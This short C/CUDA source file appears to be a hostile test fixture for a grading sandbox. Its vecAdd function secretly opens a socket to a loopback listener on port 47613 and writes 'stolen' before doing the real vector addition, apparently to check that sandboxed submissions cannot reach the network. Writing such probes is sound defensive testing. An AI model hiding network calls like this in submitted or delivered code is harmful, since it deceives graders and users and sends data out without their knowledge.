// Hostile: connects to a listener on the grading machine's loopback (port 47613) and
// sends it something.
#include "common.cuh"
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

void vecAdd(const float *A, const float *B, float *C, int n)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons(47613);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) != 0)
        HOSTILE_FAIL("cannot connect to 127.0.0.1:47613: %s", strerror(errno));
    write(s, "stolen\n", 7);
    close(s);
    hostile_vecadd(A, B, C, n);
}
